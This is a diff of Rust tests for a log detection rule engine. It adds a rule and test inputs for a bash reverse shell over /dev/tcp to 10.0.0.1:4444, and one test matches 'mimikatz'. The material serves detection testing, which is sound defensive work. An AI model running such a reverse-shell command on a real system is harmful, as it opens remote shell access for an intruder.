@@ -173,9 +173,20 @@ fn unrouted_rules_are_evaluated_when_asked() {
     let rule = "title: any\nlogsource:\n  product: windows\ndetection:\n  k: ['mimikatz']\n  condition: k\n";
     let dir = tempfile::tempdir().unwrap();
     std::fs::write(dir.path().join("w.yml"), rule).unwrap();
-    let set = RuleSet::load_with(&[dir.path()], LoadOptions { evaluate_unrouted: true, ..Default::default() }).unwrap();
+    let set = RuleSet::load_with(
+        &[dir.path()],
+        LoadOptions {
+            evaluate_unrouted: true,
+            ..Default::default()
+        },
+    )
+    .unwrap();
     assert_eq!(set.active().len(), 1);
-    assert_eq!(set.matching_rules(&sshd_event("ran mimikatz.exe", "x")).len(), 1);
+    assert_eq!(
+        set.matching_rules(&sshd_event("ran mimikatz.exe", "x"))
+            .len(),
+        1
+    );
 }
 
 #[test]
@@ -184,5 +195,61 @@ fn a_condition_that_does_not_parse_is_rejected_on_one_line() {
     let (_d, set) = load(&[("c.yml", rule)]);
     let r = one_rejection(&set);
     assert_eq!(r.line, 7);
-    assert_eq!(r.reason, "the condition does not parse at column 10: expected expr: fix the condition");
+    assert_eq!(
+        r.reason,
+        "the condition does not parse at column 10: expected expr: fix the condition"
+    );
+}
+
+const ALL_KEYWORDS: &str = "title: both words\nid: 6d4c4d5e-0000-4000-8000-000000000002\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  keywords:\n    '|contains|all':\n      - 'bash -c /bin/bash'\n      - '&/dev/tcp/'\n  condition: keywords\nlevel: high\n";
+
+#[test]
+fn keyword_items_with_all_are_gated_by_their_literals() {
+    let (_d, set) = load(&[("all.yml", ALL_KEYWORDS)]);
+    assert_eq!(set.active().len(), 1);
+    // gated: evaluated only where the longest literal occurs, not on every sshd line
+    assert_eq!(set.keyword_gated(), 1);
+    let both = "Invalid user x: bash -c /bin/bash -i >&/dev/tcp/10.0.0.1/4444";
+    assert_eq!(set.matching_rules(&sshd_event(both, "sshd")).len(), 1);
+    for one in [
+        "Invalid user x: bash -c /bin/bash",
+        "Invalid user x: >&/dev/tcp/10.0.0.1/4444",
+    ] {
+        assert!(
+            set.matching_rules(&sshd_event(one, "sshd")).is_empty(),
+            "{one}"
+        );
+    }
+    // the literal in another program's line: routed away
+    assert!(set.matching_rules(&sshd_event(both, "cron")).is_empty());
+}
+
+#[test]
+fn route_results_remembered_per_thread_are_those_of_the_rules_in_use() {
+    // the same program routed by one rule set and not by the other, checked alternately on one
+    // thread: each set's routes, never the other's remembered result
+    let cron = SSHD.replace("service: sshd", "service: cron").replace(
+        "6d4c4d5e-0000-4000-8000-000000000001",
+        "6d4c4d5e-0000-4000-8000-000000000003",
+    );
+    let (_a, sshd_rules) = load(&[("sshd.yml", SSHD)]);
+    let (_b, cron_rules) = load(&[("cron.yml", &cron)]);
+    let line = "Failed password for root from 1.2.3.4 port 22 ssh2";
+    for _ in 0..3 {
+        for (process, sshd_hits, cron_hits) in [
+            ("sshd", 1, 0),
+            ("cron", 0, 1),
+            ("CRON", 0, 1),
+            ("sshd(pam_unix)", 1, 0),
+        ] {
+            let e = sshd_event(line, process);
+            assert_eq!(sshd_rules.matching_rules(&e).len(), sshd_hits, "{process}");
+            assert_eq!(cron_rules.matching_rules(&e).len(), cron_hits, "{process}");
+        }
+        // no program: neither route
+        let mut e = sshd_event(line, "sshd");
+        e.process_name = None;
+        assert!(sshd_rules.matching_rules(&e).is_empty());
+        assert!(cron_rules.matching_rules(&e).is_empty());
+    }
 }
